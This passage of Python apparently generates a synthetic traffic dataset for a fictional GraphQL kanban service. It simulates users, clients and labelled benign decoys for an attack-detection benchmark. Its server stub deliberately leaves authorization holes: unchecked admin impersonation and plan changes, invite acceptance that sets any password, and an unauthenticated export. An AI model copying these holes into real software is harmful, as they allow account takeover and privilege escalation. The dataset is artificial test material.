        return dict(status=200, url=f'/attachments/{c}', log=log)

    def m_inviteMember(s, run, email):
        s.billing(run)
        u = s.user(run.u['o'])
        s.mail.pop(u['email'])
        u['email'] = email
        s.mail[email] = u
        return u

    def m_acceptInvite(s, run, email, password):
        u = s.mail.get(email)
        if not u:
            raise GErr('Invitation not found', 'NOT_FOUND')
        u['pw'] = u['mem'] = password
        run.rq.user = str(u['n'])
        return s.session(u, run.rq.now)

    def m_adminSetPlan(s, run, orgId, plan):        # Without a check.
        o = s.orgs.get(unid('Organization', orgId))
        if not o:
            raise GErr('Organization not found', 'NOT_FOUND')
        o['plan'] = plan
        return o

    def m_adminImpersonate(s, run, userId):        # Without a check.
        u = s.users.get(unid('User', userId))
        if not u:
            raise GErr('User not found', 'NOT_FOUND')
        return s.session(u, run.rq.now)

    def m_adminSuspendOrg(s, run, orgId):
        s.staff(run)
        return dict(ok=True)

    # --- REST
    @route('GET', '/healthz')
    def healthz(s, rq):
        return 200, {'status': 'ok'}

    @route('POST', '/webhooks/{id}')
    def inbound(s, rq, i):
        if not i.isdigit() or not 300 <= int(i) < 320:
            return 404, {'error': 'unknown hook'}
        return (202, {'accepted': True}) if 'x-hub-signature-256' in rq.h else (401, {'error': 'signature missing'})

    @route('GET', '/attachments/{uuid}')
    def download(s, rq, k):
        if not rq.u:
            return 401, {'error': 'sign in'}
        if k not in s.files:
            return 404, {'error': 'no such attachment'}
        return Rs(200, b'\x89PNG\r\n\x1a\n' + random.Random(k).randbytes(s.files[k]), ct='image/png')

    @route('PUT', '/attachments/{uuid}')
    def upload(s, rq, k):
        if not rq.u:
            return 401, {'error': 'sign in'}
        return Rs(204) if k in s.files else (404, {'error': 'no such attachment'})

    @route('GET', '/internal/export/{org}')
    def export(s, rq, o):
        if not o.isdigit() or int(o) not in s.orgs:
            return 404, {'error': 'no such organisation'}
        cs = [c for b in s.orgs[int(o)]['bs'] for c in b['cs'][-25:]]
        row = lambda c: json.dumps(dict(id=c['id'], title=c['title'], list=c['list'], who=[u['email'] for u in c['who']]))
        return Rs(200, '\n'.join(map(row, cs)), ct='application/x-ndjson', lat=.3)


# --- what clients send: name, text for the web, and a shorter one for the others
OPS = {
    'Viewer': 'query Viewer { viewer { id name email role organization { id name plan } } }',
    'MyBoards': 'query MyBoards($first: Int) { boards(first: $first) { id name lists } }',
    'Notifications': 'query Notifications($first: Int) { notifications(first: $first) { id kind cardId at } }',
    'Plans': 'query Plans { plans { name seatCents } }',
    'BoardView': 'query BoardView($id: ID!, $first: Int) { board(id: $id) { id name lists cards(first: $first) { id title list version points '
        'assignees { id name } } } }',
    'CardDetail': 'query CardDetail($id: Int!) { card(id: $id) { ...CardBits board { id name } assignees { id name } comments(first: 20) { id body at '
                  'author { id name } } attachments { id name url size } } } fragment CardBits on Card { id title description list version points updatedAt }',
    'CardActivity': 'query CardActivity($cardId: Int!, $first: Int) { cardActivity(cardId: $cardId, first: $first) { seq kind at meta actor { id name } } }',
    'OrgFeed': 'query OrgFeed($first: Int, $after: Int) { orgActivity(first: $first, after: $after) { seq kind at cardId meta actor { id name } } }',
    'SearchCards': 'query SearchCards($text: String!, $filter: String, $first: Int) { searchCards(text: $text, filter: $filter, first: $first) { id '
        'title list board { name } } }',
    'OrgMembers': 'query OrgMembers($id: ID!) { organization(id: $id) { id name seats members { id name email role } } }',
    'MemberProfile': 'query MemberProfile($id: ID!) { member(id: $id) { id name email timezone } }',
    'Invoices': 'query Invoices { invoices { id number period totalCents } }',
    'InvoiceDetail': 'query InvoiceDetail($id: ID!) { invoice(id: $id) { id number period totalCents vatId billTo organization { id name } } }',
    'Webhooks': 'query Webhooks($boardId: ID!) { webhooks(boardId: $boardId) { id url active } }',
    'Timeline': 'query Timeline($boardId: ID!) { timeline(boardId: $boardId) { id title list updatedAt } }',
    'AdminOrgs': 'query AdminOrgs($first: Int) { adminOrganizations(first: $first) { id name plan seats } }',
    'AdminUser': 'query AdminUser($email: String!) { adminUser(email: $email) { id name email role organization { id name plan } } }',
    'AdminAudit': 'query AdminAudit($first: Int) { adminAuditLog(first: $first) { seq kind at actor { id email } } }',
    'Login': 'mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token refreshToken expiresIn user { '
        'id name role } } }',
    'RefreshToken': 'mutation RefreshToken($token: String!) { refreshToken(token: $token) { token refreshToken expiresIn } }',
    'RequestReset': 'mutation RequestReset($email: String!) { requestPasswordReset(email: $email) { ok message } }',
    'ResetPassword': 'mutation ResetPassword($code: String!, $newPassword: String!) { resetPassword(code: $code, newPassword: $newPassword) { ok } }',
    'ChangePassword': 'mutation ChangePassword($userId: ID!, $newPassword: String!) { changePassword(userId: $userId, newPassword: $newPassword) { ok '
        'message } }',
    'UpdateProfile': 'mutation UpdateProfile($input: JSON!) { updateProfile(input: $input) { id name timezone role } }',
    'CreateCard': 'mutation CreateCard($input: JSON!) { createCard(input: $input) { id title list version } }',
    'UpdateCard': 'mutation UpdateCard($id: Int!, $input: JSON!) { updateCard(id: $id, input: $input) { id title description version } }',
    'MoveCard': 'mutation MoveCard($id: Int!, $list: String!, $version: Int) { moveCard(id: $id, list: $list, version: $version) { id list version } }',
    'AddComment': 'mutation AddComment($cardId: Int!, $body: String!) { addComment(cardId: $cardId, body: $body) { id body at author { id name } } }',
    'MarkRead': 'mutation MarkRead($ids: [Int]) { markRead(ids: $ids) { ok } }',
    'ApplyPromo': 'mutation ApplyPromo($code: String!) { applyPromoCode(code: $code) { ok message } }',
    'RequestUpload': 'mutation RequestUpload($cardId: Int!, $name: String!) { requestUpload(cardId: $cardId, name: $name) { id url } }',
    'CreateWebhook': 'mutation CreateWebhook($boardId: ID!, $url: String!) { createWebhook(boardId: $boardId, url: $url) { id url active } }',
    'TestWebhook': 'mutation TestWebhook($id: Int!) { testWebhook(id: $id) { status log } }',
    'ImportBoard': 'mutation ImportBoard($url: String!) { importBoard(url: $url) { status url log } }',
    'ExportBoard': 'mutation ExportBoard($boardId: ID!, $filename: String!) { exportBoard(boardId: $boardId, filename: $filename) { status url log } }',
    'InviteMember': 'mutation InviteMember($email: String!) { inviteMember(email: $email) { id email } }',
    'AcceptInvite': 'mutation AcceptInvite($email: String!, $password: String!) { acceptInvite(email: $email, password: $password) { token '
        'refreshToken user { id name } } }',
    'AdminSetPlan': 'mutation AdminSetPlan($orgId: ID!, $plan: String!) { adminSetPlan(orgId: $orgId, plan: $plan) { id plan } }',
    'AdminImpersonate': 'mutation AdminImpersonate($userId: ID!) { adminImpersonate(userId: $userId) { token user { id email } } }',
    'AdminSuspend': 'mutation AdminSuspend($orgId: ID!) { adminSuspendOrg(orgId: $orgId) { ok } }',
}
PHONE = {
    'BoardView': 'query BoardView($id: ID!, $first: Int) { board(id: $id) { id name cards(first: $first) { id title list } } }',
    'CardDetail': 'query CardDetail($id: Int!) { card(id: $id) { id title description list version assignees { id name } comments(first: 10) { id '
                  'body author { name } } attachments { name url } } }',
    'Notifications': 'query Notifications($first: Int) { notifications(first: $first) { id kind cardId } }',
}


def web_text(q):
    """Apollo adds __typename to every selection below the first and prints over lines."""
    d, out = 0, ''
    for c in q:
        if c == '}' and d > 1:
            out += '  __typename\n'
        d += (c == '{') - (c == '}')
        out += c + ('\n' if c in '{}' else '')
    return re.sub(r'\n ', '\n' + '  ', out).replace('} ...', '}\n...')


WEBTEXT = {k: web_text(v) for k, v in OPS.items()}
SHORT = {k: re.sub(r'\s*([{}():,])\s*', r'\1', re.sub(r'^(query|mutation) \w+', r'\1', OPS[k])) for k in OPS}
SHA = {k: hashlib.sha256(PHONE.get(k, v).encode()).hexdigest() for k, v in OPS.items()}
GQL = '/api/graphql'


def packed(style, name, vs):
    """the body that a program of the style sends for the operation"""
    if style == 'web':
        return dict(operationName=name, variables=vs, query=WEBTEXT[name])
    if style == 'android':
        return dict(operationName=name, variables=vs, extensions=dict(persistedQuery=dict(version=1, sha256Hash=SHA[name])))
    if style == 'ios':
        return dict(query=PHONE.get(name, OPS[name]), operationName=name, variables=vs)
    return dict(query=SHORT[name], variables=vs) if vs else dict(query=SHORT[name])


def data(rs):
    return (isinstance(rs.body, dict) and rs.body.get('data')) or {}


def code(rs):
    b = rs.body[0] if isinstance(rs.body, list) else rs.body
    return b['errors'][0].get('extensions', {}).get('code') if isinstance(b, dict) and b.get('errors') else None


DECOYS = [('D-nat', 'shared_nat', 'two offices with 24 accounts behind one address each'), ('D-batchui', 'legit_batching',
    'the web client sends an array of four operations on start-up'),
          ('D-wall', 'legit_heavy_query', 'a wallboard asks for whole boards, nested, every 20 minutes since the start'),
          ('D-dev', 'developer_introspection', 'a developer inside runs the introspection every working morning'),
          ('D-codegen', 'partner_introspection', 'a partner builds nightly from the schema with a personal token, from the same address since the start'),
          ('D-alias', 'legit_alias_query', 'a chat bot asks for 8 to 25 cards of its organisation under aliases, hourly since the start'),
          ('D-probe', 'monitor_probe', 'GET /healthz every ten minutes and { health } every half an hour'),
          ('D-export', 'nightly_batch', 'the warehouse inside reads the export of every organisation at night'),
          ('D-app', 'new_app_version', 'day 5: phones and web get a new version'), ('D-forget', 'forgetful_user', 'mistyped passwords before a log-in'),
          ('D-roam', 'roaming_user', 'day 4 to 6: a user travels, same phone, other network'), ('D-outage', 'outage_retry_storm',
              'day 5: 25 minutes of 503 and retries'),
          ('D-onboard', 'bulk_onboarding', 'day 5: a customer invites nine people and imports two boards, all of them log in'),
          ('D-review', 'reads_many_own', 'two project leads go through 30 to 60 cards of their own board every working morning'),
          ('D-support', 'support_reads_many', 'support staff of the vendor uses the administrator functions from inside every working day'),
          ('D-code', 'code_in_text', 'developers write SQL, shell and markup into cards and comments since the start'),
          ('D-pwday', 'password_rotation', 'day 6: every member of an organisation changes the own password'),
          ('D-feature', 'documented_new_operation', 'day 6: the released timeline operation is used by all web clients'),
          ('D-old', 'old_client', 'two users keep an old phone version that asks for a removed field since the start'),
          ('D-promo', 'promo_typos', 'buyers mistype a promotion code once or twice')]


class World:
    """The application, its people and their programs."""

    def __init__(s, name, seed, attacks, start, days):
        st = ts(start)
        s.st, s.attacks, s.days = st, attacks, days
        s.app = Kanban(random.Random(seed + 1), attacks, st)
        s.S = Sim(name, 'Tavla: project tracking over GraphQL, synthetic', st, days, '172.21.40.11', 4000, 'hub.tavla.example', s.app, seed, 2,
            'Errors of GraphQL are 200 with an errors array. One path; the operation is in the body (sometimes a hash of it).')
        s.r = s.S.rng
        for d in DECOYS:
            s.S.decoy(*d)
        s.populate()

    def populate(s):
        a, r = s.app, s.r
        sizes = [14, 12, 10, 9, 8, 7, 6, 6, 5, 5, 4, 4]
        for k, (n, z) in enumerate(zip(ORGS.split('|'), sizes)):
            o = a.org(118 + k * 7, n)
            for i in range(z):
                u = a.user(o, 'OWNER' if i == 0 else 'ADMIN' if i == 1 else 'MEMBER')
                u['tz'] = [2, 2, 2, 1, 2, -4, 5.5, 1, 2, -7, -4, 2][k]
            for i in range(2 + z // 3):
                a.board(o, 300 + k * 11 + i, f'{r.choice(WORDS).title()} {r.choice(["sprint", "roadmap", "ops", "launch"])}')
        bs = [b for b in a.boards.values() for _ in range(len(b['o']['users']))]
        for k in range(2300):
            c = a.card(r.choice(bs), f'{r.choice(VERBS)} {r.choice(THINGS)}', s.st - (2300 - k) * 5000)
            for _ in range(r.choice([0, 0, 1, 2, 4])):
                a.ncomment += 1
                c['com'].append(dict(id=nid('Comment', a.ncomment), body=r.choice(CHAT), at=c['updatedAt'], author=r.choice(c['b']['o']['users'])))
            if r.random() < .25:
                a.attach(c, r.choice(['screen.png', 'mock.png', 'log.txt']))
        s.bill()
        s.users = list(a.users.values())
        s.outage = s.S.local(5, 10.2)
        a.down = [(s.outage, s.outage + 25 * MIN)]

    def bill(s):
        n = 5110
        for m in range(20):
            for o in s.app.orgs.values():
                n += 1
                p = f'{2024 + (m + 8) // 12}-{(m + 8) % 12 + 1:02}'
                s.app.inv[n] = dict(_t='Invoice', n=n, id=nid('Invoice', n), number=f'TV-{n}', period=p, totalCents=700 * len(o['users']) + n % 50,
                    vatId=f'DE{o["n"] * 7919 % 10**9:09}', billTo=f'{o["name"]}, {o["users"][0]["name"]}, Lange Gasse {o["n"] % 90}', o=o)

    # --- programs
    def client(s, ip, style, u=None, ver=None, **k):
        ua = {'web': WEB[(u or {'n': 0})['n'] % 3], 'android': 'tavla-android/7.40.1 okhttp/4.12.0', 'ios': f'Tavla/7402 {IPHONE}',
            'desktop': 'tavla-desktop/3.8.0 Electron/28.2.1'}.get(style, 'axios/1.6.7')
        h = {'web': {'Origin': 'https://hub.tavla.example', 'apollographql-client-name': 'tavla-web', 'apollographql-client-version': '7.40.3'},
            'android': {'apollographql-client-name': 'tavla-android'}, 'ios': {'apollographql-client-name': 'tavla-ios'},
            'desktop': {'apollographql-client-name': 'desk'}}
        cl = Client(ip, k.pop('ua', ua), str(u['n']) if u else None, headers=dict(h.get(style, {}), **k.pop('headers', {})), **k)
        cl.style, cl.u, cl.rt, cl.since = style, u, None, 0
        return cl

    def op(s, cl, name, /, **vs):
        """send an operation as the program does; an unknown hash is sent again with the text"""
        k = {}
        if name == 'CardActivity' and s.attacks and s.S.now > s.app.growth and not cl.ep:
            k['ep'] = 'K22'
        if name == 'Timeline':
            k['dc'] = 'D-feature'
        b = packed(cl.style, name, vs)
        rs = s.S.call(cl, 'POST', GQL, js=b, **k)
        if code(rs) == 'PERSISTED_QUERY_NOT_FOUND':
            rs = s.S.call(cl, 'POST', GQL, js=dict(b, query=PHONE.get(name, OPS[name])), **k)
        return rs

    def raw(s, cl, q, vs=None, **k):
        return s.S.call(cl, 'POST', GQL, js=dict(query=q, variables=vs) if vs else dict(query=q), **k)

    def keep(s, cl, x):
        if cl.style == 'desktop':
            cl.h['Cookie'] = f'tavla_sid={x["token"]}'
        else:
            cl.h['Authorization'] = 'Bearer ' + x['token']
        cl.rt, cl.since = x['refreshToken'], s.S.now

    def login(s, cl, u, pw=None, dc=None):
        old, cl.dc = cl.dc, dc or cl.dc
        rs = s.op(cl, 'Login', email=u['email'], password=pw or u['mem'])
        cl.dc = old
        x = data(rs).get('login')
        if x:
            s.keep(cl, x)
        return bool(x)

    def signed(s, cl, u):
        """a session that holds: none, log in; the JWT of the web runs out after ten hours and is refreshed"""
        if cl.style == 'web' and cl.rt and s.S.now - cl.since > 10 * HOUR:
            if s.r.random() < .4:        # The tab learns it by the error.
                s.op(cl, 'Notifications', first=20)
                yield .3
            cl.h.pop('Authorization', None)
            if s.S.now - cl.since < 3 * DAY:
                x = data(s.op(cl, 'RefreshToken', token=cl.rt)).get('refreshToken')
                if x:
                    return s.keep(cl, x)
        if 'Authorization' in cl.h or 'Cookie' in cl.h:
            return
        for _ in range(s.r.randint(3, 5) if u.get('forget') else int(s.r.random() < .06)):
            s.login(cl, u, u['mem'][:-1] + s.r.choice('0123456789'), dc='D-forget')
            yield s.r.uniform(4, 20)
        for k in range(4):
            if s.login(cl, u):
                return
            yield 3 * 2 ** k
        yield from s.forgot(cl, u)

    def forgot(s, cl, u):
        s.op(cl, 'RequestReset', email=u['email'])
        yield s.r.uniform(60, 200)
        c = next((c for c, v in s.app.reset.items() if v is u), None)
        if c:
            u['mem'] = f'{s.r.choice(WORDS)}{s.r.randint(1000, 9999)}'
            s.op(cl, 'ResetPassword', code=c, newPassword=u['mem'])
            yield 4
            s.login(cl, u)

    # --- a person at work
    def startup(s, cl, u):
        if cl.style == 'web':
            ops = [packed('web', 'Viewer', {}), packed('web', 'MyBoards', dict(first=10)), packed('web', 'Notifications', dict(first=20)),
                packed('web', 'Plans', {})]
            return s.S.call(cl, 'POST', GQL, js=ops, dc=cl.dc or 'D-batchui')
        if s.r.random() < .5:
            s.op(cl, 'Viewer')
        return s.op(cl, 'MyBoards', first=10)

    def session(s, cl, u, mean=9):
        yield from s.signed(cl, u)
        if 'Authorization' not in cl.h and 'Cookie' not in cl.h:
            return
        k, rs = 0, s.startup(cl, u)
        while rs.st == 503 and k < 6:
            yield 2 ** k + s.r.random()
            k, old, cl.dc = k + 1, cl.dc, 'D-outage'
            rs = s.startup(cl, u)
            cl.dc = old
        if rs.st != 200:
            return
        if code(rs) == 'UNAUTHENTICATED':
            cl.h.pop('Authorization', None)
            yield 2
            yield from s.signed(cl, u)
        b = u['o']['bs'][u['n'] % len(u['o']['bs'])] if s.r.random() < .7 else s.r.choice(u['o']['bs'])
        s.op(cl, 'BoardView', id=b['id'], first=40 if cl.style == 'web' else 25)
        if cl.style == 'web' and s.S.now > s.st + 6 * DAY and s.r.random() < .3:
            yield 2
            s.op(cl, 'Timeline', boardId=b['id'])
        for _ in range(max(1, int(s.r.expovariate(1 / mean)))):
            yield s.r.lognormvariate(2.7, 1)
            yield from s.step(cl, u, b)

    def step(s, cl, u, b):
        r = s.r
        c = r.choice(b['cs'][-40:])
        x = r.random()
        if u['role'] != 'MEMBER' and r.random() < .08:
            yield from s.manage(cl, u, b)
        elif x < .38:
            s.op(cl, 'CardDetail', id=c['id'])
            if r.random() < .4:
                yield r.uniform(.1, 3)
                s.op(cl, 'CardActivity', cardId=c['id'], first=20)
            if c['att'] and r.random() < .4:
                yield r.uniform(.2, 5)
                s.S.call(cl, 'GET', r.choice(c['att'])['url'])
        elif x < .52:
            s.op(cl, 'MoveCard', id=c['id'], list=r.choice(LISTS), version=c['version'] - (r.random() < .04))
        elif x < .64:
            s.op(cl, 'AddComment', cardId=c['id'], body=r.choice(CHAT))
        elif x < .70:
            s.op(cl, 'CreateCard', input=dict(boardId=b['id'], title=f'{r.choice(VERBS)} {r.choice(THINGS)}' if r.random() > .03 else ''))
        elif x < .76:
            s.op(cl, 'UpdateCard', id=c['id'], input=dict(points=r.choice([1, 2, 3, 5])) if r.random() < .5 else dict(description=r.choice(CHAT)))
        elif x < .88:
            s.op(cl, 'Notifications', first=20)
            if r.random() < .3:
                s.op(cl, 'MarkRead', ids=[r.randint(10**6, 10**7) for _ in range(3)])
        elif x < .95:
            q = r.choice(THINGS).split()[0]
            s.op(cl, 'SearchCards', text=q[:r.randint(3, 9)], filter=r.choice([None, None, 'is:open', 'assignee:me', 'label:bug is:open']), first=20)
        else:
            yield from s.seldom(cl, u, b, c)

    def seldom(s, cl, u, b, c):
        r, x = s.r, s.r.random()
        if x < .18:
            s.op(cl, 'OrgMembers', id=u['o']['id'])
            yield 4
            s.op(cl, 'MemberProfile', id=r.choice(u['o']['users'])['id'])
        elif x < .34:
            y = data(s.op(cl, 'RequestUpload', cardId=c['id'], name=r.choice(['screen.png', 'photo.jpg']))).get('requestUpload')
            if y:
                yield 1
                s.S.call(cl, 'PUT', y['url'], body=r.randbytes(r.randint(700, 3500)), ct='image/png')
        elif x < .48:
            s.op(cl, 'OrgFeed', first=r.choice([20, 20, 50]), after=0)
        elif x < .58:
            s.op(cl, 'UpdateProfile', input=dict(name=u['name'], timezone=r.choice(['Europe/Berlin', 'Europe/Oslo', 'Asia/Kolkata'])))
        elif x < .68:
            s.op(cl, 'ExportBoard', boardId=b['id'], filename=f'{b["name"].split()[0].lower()}-{r.randint(1, 30)}.pdf')
        elif x < .74:
            s.op(cl, 'CardDetail', id=740100 + r.randint(1, 17))        # An old link to a deleted card.
        elif x < .80:
            u['mem'], old = f'{r.choice(WORDS)}{r.choice(WORDS).title()}{r.randint(10, 99)}', u['mem']
            rs = s.op(cl, 'ChangePassword', userId=u['id'], newPassword=u['mem'])
            if not data(rs).get('changePassword'):
                u['mem'] = old
        elif u['role'] in ('OWNER', 'ADMIN'):
            yield from s.manage(cl, u, b)

    def manage(s, cl, u, b):
        r, x = s.r, s.r.random()
        if x < .5:
            v = data(s.op(cl, 'Invoices')).get('invoices') or []
            for i in r.sample(v, min(len(v), r.randint(0, 2))):
                yield r.uniform(3, 20)
                s.op(cl, 'InvoiceDetail', id=i['id'])
        elif x < .68:
            s.op(cl, 'Webhooks', boardId=b['id'])
            if r.random() < .5:
                yield 15
                h = data(s.op(cl, 'CreateWebhook', boardId=b['id'],
                    url=f'https://ci.{u["email"].split("@")[1]}/hooks/{r.randint(10, 99)}')).get('createWebhook')
                if h:
                    yield 5
                    s.op(cl, 'TestWebhook', id=h['id'])
        elif x < .82:
            s.op(cl, 'ImportBoard', url=f'https://files.otherboard.example/export/{r.getrandbits(40):010x}.json')
        else:
            for _ in range(r.randint(0, 2)):
                old, cl.dc = cl.dc, 'D-promo'
                s.op(cl, 'ApplyPromo', code=r.choice(['WELCOM10', 'TEAMSPRNG', 'ANUAL15']))
                cl.dc = old
                yield 9
            s.op(cl, 'ApplyPromo', code=r.choice(['WELCOME10', 'TEAMSPRING', 'ANNUAL15']))

    def starts(s, u, rate, phone, grow):
        out = []
        for d in range(-1, s.days + 1):
            wd = time.gmtime(s.st + d * DAY).tm_wday >= 5
            n = rate * ((.35 if phone else .1) if wd else 1) * (1 + grow * d / s.days)
            for _ in range(int(n) + (s.r.random() < n % 1)):
                h, sd = s.r.choice([(7.8, .6), (12.5, .8), (19, 1.5), (21.5, 1)] if phone else [(9, .6), (10.5, .8), (13.5, .8), (16, 1.1)])
                t = s.st + d * DAY + (s.r.gauss(h, sd) - u['tz']) * HOUR
                if t > s.st:
                    out.append(t)
        return sorted(out)

    def address(s, k, phone=False):
        if phone:
            return f'2a02:8109:{k * 37 % 4096:x}:{k:x}::{k * 3 + 2:x}' if k % 5 == 2 else f'109.43.{k}.{k * 11 % 240 + 3}'
        return f'{["84.132", "93.228", "213.61", "62.96"][k % 4]}.{k * 3 % 250}.{k * 17 % 240 + 5}'

    def people(s):
        for k, u in enumerate(s.users):
            office = {118: '195.37.20.4', 132: '212.8.199.66'}.get(u['o']['n'])
            first = 'desktop' if k % 13 == 5 else 'web' if k % 6 != 4 else None
            u['forget'] = k in (33, 57)
            rate = 2. if k == 39 else s.r.choice([.5, 1., 1.5, 1.6, 2.2, 3.4])
            grow = s.r.choice([0, 0, 0, .6, 1.2])
            if first:
                u['cl'] = s.client(office or s.address(k), first, u, dc='D-nat' if office else None)
                s.habit(u, u['cl'], rate, False, grow, k)
            if not first or k % 3 == 0:
                u['ph'] = s.client(s.address(k, True), ['android', 'ios'][k // 3 % 2], u)
                s.habit(u, u['ph'], rate * .7, True, grow, k)
            u['cl'] = u.get('cl') or u['ph']

    def habit(s, u, cl, rate, phone, grow, k):
        home = cl.ip

        def one(t):
            d = (t - s.st) / DAY
            old = cl.dc
            if d > 5 + (k * 631 % 90) / 60 and cl.style != 'desktop':
                s.upgrade(cl)
            if k == 39 and phone:
                cl.ip, cl.dc = ('185.66.193.20', 'D-roam') if 4 < d < 6 else (home, None)
            yield from s.session(cl, u, 5 if phone else 9)
            cl.dc = old
        for t in s.starts(u, rate, phone, grow):
            s.S.spawn(t, one(t))

    def upgrade(s, cl):
        new = cl.ua.replace('7.40.1', '7.41.0').replace('Tavla/7402', 'Tavla/7411')
        first = new != cl.ua or cl.h.get('apollographql-client-version') == '7.40.3'
        cl.ua = new
        if cl.style == 'web':
            cl.h['apollographql-client-version'] = '7.41.2'
        if first:
            cl.dc = cl.dc or 'D-app'

    # --- programs without a person, and the other decoys
    def token(s, u, pre='tvp_'):
        t = pre + b64(s.app.rng.randbytes(24))
        s.app.tok[t] = u
        return {'Authorization': 'Bearer ' + t}

    def workday(s, d):
        return time.gmtime(s.st + d * DAY).tm_wday < 5

    def daily(s, hour, f, every=False, tz_shift=.1):
        for d in range(s.days):
            if every or s.workday(d):
                s.S.spawn(s.S.local(d, hour) + s.r.random() * tz_shift * HOUR, f(d))

    def machines(s):
        s.S.spawn(s.st + 5, s.probe())
        s.S.spawn(s.st + 9, s.wall())
        s.S.spawn(s.st + 70, s.bot())
        s.daily(1.6, s.warehouse, True)
        s.daily(9.3, s.developer)
        s.daily(3.2, s.codegen, True, .02)
        for k in range(3):
            who = s.app.user(s.app.orgs[118], 'STAFF')
            s.app.orgs[118]['users'].remove(who)
            cl = s.client(f'172.21.60.{14 + k}', 'web', who, dc='D-support')
            s.daily(8.5 + k, lambda d, cl=cl, who=who: s.support(cl, who))
        for k in range(9):
            s.S.spawn(s.st + 20 + k, s.hooks(k))
        for k in (17, 44):
            u = s.users[k]
            cl = s.client(s.address(k), 'web', u, dc='D-review')
            s.daily(8.2 - u['tz'] + 2, lambda d, cl=cl, u=u: s.review(cl, u))
        for k in (23, 62):
            s.S.spawn(s.st + 3000 + k, s.old(s.users[k], k))
        coders = [u for u in s.users if u['o']['n'] in (132, 160)][:8]
        for k, u in enumerate(coders):
            s.S.spawn(s.st + 4 * HOUR + k * 700, s.coder(u))

    def probe(s):
        cl = s.client('172.21.8.3', 'plain', ua='Blackbox-Exporter/0.25', dc='D-probe')
        k = 0
        while True:
            s.S.call(cl, 'GET', '/healthz')
            if k % 3 == 0:
                s.raw(cl, '{ health }')
            k += 1
            yield 600

    def wall(s):
        o = s.app.orgs[139]
        cl = s.client('83.236.4.18', 'plain', o['users'][2], ua='Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 Chromium/119.0 wallboard',
            dc='D-wall', headers=s.token(o['users'][2]))
        q = ('query Wall($n: Int) { viewer { organization { name boards(first: 6) { name cards(first: $n) { title list assignees { name '
             'organization { name } } comments(first: 3) { body author { name } } } } } } }')
        while True:
            s.S.call(cl, 'POST', GQL, js=dict(operationName='Wall', query=q, variables=dict(n=60)))
            yield 1200 + s.r.random()

    def bot(s):
        o = s.app.orgs[153]
        cl = s.client('34.141.80.9', 'plain', o['users'][0], ua='node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', dc='D-alias',
            headers=s.token(o['users'][0]))
        while True:
            cs = [c for b in o['bs'] for c in b['cs']][-60:]
            v = s.r.sample(cs, min(len(cs), s.r.randint(8, 25)))
            s.raw(cl, '{ ' + ' '.join(f'c{k}: card(id: {c["id"]}) {{ title list updatedAt }}' for k, c in enumerate(v)) + ' }')
            yield s.r.uniform(3300, 3900)

    def warehouse(s, d):
        cl = s.client('172.21.12.40', 'plain', ua='tavla-warehouse/2.3', dc='D-export')
        cl.ident = 'svc:warehouse'
        for o in list(s.app.orgs):
            s.S.call(cl, 'GET', f'/internal/export/{o}?day={d}')
            yield s.r.uniform(2, 9)

    def developer(s, d):
        cl = s.client('172.21.61.77', 'plain', ua=WEB[1], dc='D-dev', headers={'Origin': 'http://localhost:5173'})
        s.S.call(cl, 'POST', GQL, js=dict(operationName='IntrospectionQuery', query=INTRO, variables={}))
        for _ in range(s.r.randint(2, 6)):
            yield s.r.uniform(20, 200)
            s.raw(cl, s.r.choice(['{ plans { name } }', '{ health }', '{ plans { nam } }', '{ plans { name seatCents }']))

    def codegen(s, d):
        u = s.app.orgs[181]['users'][1]
        if 'gen' not in u:
            u['gen'] = s.client('52.29.77.31', 'plain', u, ua='graphql-codegen/5.0.2', dc='D-codegen', headers=s.token(u))
        s.S.call(u['gen'], 'POST', GQL, js=dict(query=INTRO, operationName='IntrospectionQuery'))
        for b in u['o']['bs']:
            yield 3
            s.raw(u['gen'], 'query Sync($id: ID!) { board(id: $id) { name cards(first: 100) { id title list } } }', dict(id=b['id']))

    def support(s, cl, u):
        yield from s.signed(cl, u)
        s.op(cl, 'AdminOrgs', first=50)
        for _ in range(s.r.randint(8, 20)):
            yield s.r.expovariate(1 / 900)
            v = s.r.choice(s.users)
            s.op(cl, 'AdminUser', email=v['email'] if s.r.random() > .1 else 'x' + v['email'])
            x = s.r.random()
            if x < .3:
                yield s.r.uniform(10, 60)
                s.op(cl, 'CardDetail', id=s.r.choice(v['o']['bs'][0]['cs'])['id'])
            elif x < .4:
                s.op(cl, 'AdminSetPlan', orgId=v['o']['id'], plan=v['o']['plan'])
            elif x < .55:
                s.op(cl, 'AdminAudit', first=50)
            elif x < .6:
                s.op(cl, 'AdminImpersonate', userId=v['id'])

    def hooks(s, k):
        cl = s.client(['140.82.115.40', '140.82.115.77', '35.231.145.6'][k % 3], 'plain', ua=['GitHub-Hookshot/8f3a1c0', 'GitHub-Hookshot/8f3a1c0',
            'GitLab/16.9.1'][k % 3])
        while True:
            yield s.r.expovariate(1 / 6000) + 5
            b = dict(ref=f'refs/heads/{s.r.choice(WORDS)}', after=f'{s.r.getrandbits(160):040x}',
                commits=[dict(message=f'{s.r.choice(VERBS)} {s.r.choice(THINGS)}') for _ in range(s.r.randint(1, 4))])
            h = {'X-Hub-Signature-256': f'sha256={s.r.getrandbits(256):064x}'}
            rs = s.S.call(cl, 'POST', f'/webhooks/{300 + k * 2 if k < 8 else 341}', js=b, h=h)
            if rs.st == 503:
                yield 60
                s.S.call(cl, 'POST', f'/webhooks/{300 + k * 2}', js=b, h=h, dc='D-outage')

    def review(s, cl, u):
        yield from s.signed(cl, u)
        b = max(u['o']['bs'], key=lambda b: len(b['cs']))
        s.op(cl, 'BoardView', id=b['id'], first=100)
        for c in b['cs'][-s.r.randint(30, 60):]:
            yield s.r.uniform(2, 14)
            s.op(cl, 'CardDetail', id=c['id'])

    def old(s, u, k):
        cl = s.client(s.address(k + 100, True), 'ios', u, ua=f'Tavla/6905 {IPHONE}', dc='D-old', headers=s.token(u, 'tv1_'))
        while True:
            if 7 < (s.S.now / HOUR + u['tz']) % 24 < 22:
                s.raw(cl, 'query Home { viewer { id name avatarUrl } boards(first: 10) { id name } }')
                yield 1
                s.raw(cl, 'query Home { viewer { id name } boards(first: 10) { id name } }')
                yield 5
                s.op(cl, 'BoardView', id=s.r.choice(u['o']['bs'])['id'], first=25)
            yield s.r.expovariate(1 / 15000)

    def coder(s, u):
        cl = u['cl']
        while True:
            h = (s.S.now / HOUR + u['tz']) % 24
            if 9 < h < 18 and s.workday(int((s.S.now - s.st) / DAY)) and ('Authorization' in cl.h or 'Cookie' in cl.h):
                b = s.r.choice(u['o']['bs'])
                c = s.r.choice(b['cs'][-40:])
